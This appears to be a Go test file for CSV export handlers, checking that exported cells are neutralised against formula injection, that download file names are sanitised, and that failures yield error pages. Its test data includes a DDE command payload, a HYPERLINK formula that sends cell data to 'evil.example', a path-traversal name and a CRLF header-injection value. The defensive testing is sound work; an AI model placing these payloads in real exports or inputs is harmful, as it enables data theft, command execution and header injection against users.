@@ -1,0 +1,145 @@
+package members_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"tallyfy-admin/handlers/directory"
+	"tallyfy-admin/handlers/sitetest"
+	"tallyfy-admin/tallyfy/sandbox"
+)
+
+// newGroup makes a group in Tallyfy itself.
+func newGroup(s *sitetest.Site, name, description string, members ...int) sandbox.Group {
+	s.T.Helper()
+	body, err := json.Marshal(map[string]any{"name": name, "description": description, "members": append([]int{}, members...)})
+	require.NoError(s.T, err)
+	s.Elsewhere(http.MethodPost, "/groups", string(body))
+	return s.Group(name)
+}
+
+// renaming changes what Tallyfy says on its way here.
+type renaming struct {
+	next     http.RoundTripper
+	from, to string
+}
+
+func (r *renaming) RoundTrip(request *http.Request) (*http.Response, error) {
+	answer, err := r.next.RoundTrip(request)
+	if err != nil {
+		return nil, err
+	}
+	defer answer.Body.Close()
+	body, err := io.ReadAll(answer.Body)
+	body = bytes.ReplaceAll(body, []byte(r.from), []byte(r.to))
+	answer.Body, answer.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
+	answer.Header.Del("Content-Length")
+	return answer, err
+}
+
+func TestNoCellIsAFormula(t *testing.T) {
+	wire := &renaming{from: `"Esi`, to: `"=cmd|' /C calc'!A0`}
+	s := sitetest.New(t, sitetest.Options{Transport: wire})
+	wire.next = s.Sandbox.Transport()
+	s.SignIn()
+	const attack = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	esi := s.Member("esi.mensah").ID
+	g := newGroup(s, attack, "+1\n@SUM(A1)", esi)
+	for _, path := range []string{"/groups.csv", "/members.csv", "/groups/" + g.ID + "/people.csv"} {
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s.Get(path).Body, "\ufeff"))).ReadAll()
+		require.NoError(t, err)
+		for _, cell := range slices.Concat(rows...) {
+			for part := range strings.FieldsFuncSeq(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
+				assert.NotRegexp(t, `^\s*[=+\-@]`, part, path)
+			}
+		}
+	}
+	rows := groupRows(s.Get("/groups.csv?q=hyperlink"))
+	require.Len(t, rows, 1)
+	assert.Equal(t, []string{"'" + attack, "'+1\n'@SUM(A1)"}, rows[0][:2])
+	rows = memberRows(s.Get("/members.csv?q=mensah"))
+	require.Len(t, rows, 1)
+	assert.Equal(t, `'=cmd|' /C calc'!A0 Mensah`, rows[0][0])
+	assert.Equal(t, "Everyone at Aldermoor; Finance; '"+attack, rows[0][4])
+}
+
+func TestFileNamesAreSafeWhateverAGroupIsCalled(t *testing.T) {
+	s := sitetest.SignedIn(t, sitetest.Options{})
+	for name, want := range map[string]string{
+		`Night "shift"; x=../../etc`: "night-shift-x-etc-aldermoor-logistics",
+		"Line\r\nSet-Cookie: a=b":    "line-set-cookie-a-b-aldermoor-logistics",
+		"ליאור":                      "aldermoor-logistics",
+		"Zoë & Søn":                  "zoe-s-n-aldermoor-logistics",
+		strings.Repeat("long ", 39):  strings.TrimSuffix(strings.Repeat("long-", 16), "-"),
+	} {
+		g := newGroup(s, strings.TrimSpace(name), "For a test.")
+		p := s.Get("/groups/" + g.ID + "/people.csv")
+		assert.Empty(t, file(p, "Kind", "Name", "Email", "Role", "Status", "Id"))
+		assert.Equal(t, `attachment; filename="`+want+time.Now().Format("-2006-01-02")+`.csv"`, p.Header.Get("Content-Disposition"))
+		assert.NotContains(t, p.Header.Values("Set-Cookie"), "a=b")
+	}
+}
+
+func TestAStandardMemberMayTakeFiles(t *testing.T) {
+	s := sitetest.New(t, sitetest.Options{})
+	anonymous := s.Get("/members.csv?role=light")
+	assert.Equal(t, "/signin?next="+url.QueryEscape("/members.csv?role=light"), anonymous.URL)
+	s.SignInWith(sandbox.StandardToken)
+	assert.Len(t, memberRows(s.Get("/members.csv")), 60)
+	assert.Len(t, groupRows(s.Get("/groups.csv")), 34)
+	assert.Len(t, file(s.Get("/groups/"+s.Group(everybody).ID+"/people.csv"), "Kind", "Name", "Email", "Role", "Status", "Id"), 60)
+}
+
+func TestAFileThatTakesLongSaysHowFarItIs(t *testing.T) {
+	s := sitetest.SignedIn(t, sitetest.Options{Sandbox: sandbox.Options{Members: 1500}, Directory: directory.Options{Wait: time.Millisecond}})
+	s.Sandbox.Fail(sandbox.Fault{Route: sitetest.UsersRoute, Delay: 20 * time.Millisecond})
+	g := s.Group(everybody)
+	for path, back := range map[string]string{"/groups/" + g.ID + "/people.csv": "/groups/" + g.ID, "/members.csv?role=light&page=2": "/members?page=2&role=light", "/groups.csv": "/groups"} {
+		p := s.Get(path).Whole(http.StatusOK)
+		assert.Equal(t, "Preparing the file", p.Text("h1"), path)
+		assert.Equal(t, "2", p.Header.Get("Refresh"), path)
+		assert.Contains(t, p.Text("main [role=status]"), " so far.")
+		assert.Equal(t, back, p.Link("Back"))
+	}
+	p := s.Get("/groups/" + g.ID + "/people.csv")
+	for p.Header.Get("Refresh") != "" {
+		p = s.Get(p.URL)
+	}
+	assert.Len(t, file(p, "Kind", "Name", "Email", "Role", "Status", "Id"), 1500)
+	assert.Equal(t, 15, s.Calls(http.MethodGet, "/users"), "each page once, however often was asked")
+}
+
+func TestAFailureIsAPageNeverHalfAFile(t *testing.T) {
+	for name, fault := range map[string]sandbox.Fault{
+		"members 500":  {Route: sitetest.UsersRoute, Status: 500},
+		"members 403":  {Route: sitetest.UsersRoute, Status: 403},
+		"second page":  {Route: sitetest.UsersRoute, Abort: true, AbortAfter: 400},
+		"group 500":    {Route: sitetest.GroupRoute, Status: 500},
+		"group broken": {Route: sitetest.GroupRoute, Abort: true, AbortAfter: 40},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			s := sitetest.SignedIn(t, sitetest.Options{Sandbox: sandbox.Options{Members: 150}})
+			g := s.Group(everybody)
+			s.Sandbox.Fail(fault)
+			p := s.Get("/groups/" + g.ID + "/people.csv")
+			p.Whole(map[bool]int{true: http.StatusForbidden, false: http.StatusBadGateway}[fault.Status == 403])
+			assert.Contains(t, p.Header.Get("Content-Type"), "text/html")
+			assert.Empty(t, p.Header.Get("Content-Disposition"))
+			assert.Contains(t, p.Texts("main code"), p.Header.Get("X-Request-Id"))
+			s.Sandbox.ClearFaults()
+			assert.Len(t, file(s.Get("/groups/"+g.ID+"/people.csv"), "Kind", "Name", "Email", "Role", "Status", "Id"), 150)
+		})
+	}
+}
